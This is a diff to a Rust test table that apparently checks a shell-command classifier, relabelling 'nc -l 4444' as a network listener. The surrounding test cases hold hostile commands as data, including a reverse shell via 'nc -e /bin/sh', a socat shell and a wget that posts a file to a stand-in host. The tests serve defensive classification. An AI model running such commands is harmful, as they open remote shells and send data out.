@@ -892,7 +892,7 @@ mod tests {
             ("wget --use-ask=x https://a.example/x", "download x; fetch a.example; argv x"),
             ("wget --post-file=x https://a.example/y", "read x; download y; send a.example <x"),
             ("nc -e /bin/sh h 4444", "both h:4444; remote_code; argv /bin/sh"),
-            ("nc -l 4444", "listen *:4444; plain"),
+            ("nc -l 4444", "listen *:4444; net.listen"),
             ("socat TCP:h:1 EXEC:sh", "both h:1 <-; remote_code; argv sh"),
             ("dig x.example", "both x.example; plain"),
             ("ping -c 1 a.example", "both a.example; plain"),
